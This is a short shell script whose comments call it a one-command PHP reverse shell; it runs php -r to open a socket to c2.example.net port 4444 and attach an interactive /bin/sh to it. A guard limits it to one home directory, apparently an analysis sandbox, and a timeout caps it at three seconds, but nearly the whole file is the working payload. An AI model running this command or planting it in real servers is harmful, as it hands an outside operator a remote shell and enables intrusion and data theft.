#!/bin/sh
# SPDX-License-Identifier: MIT
# A reverse shell in one PHP command, as on a web server (PHP by its usual
# path): a socket to the operator, a shell whose descriptors are on it.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
timeout 3 /usr/bin/php -r '$s=fsockopen("c2.example.net",4444);$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$pipes);' 2>/dev/null
exit 0
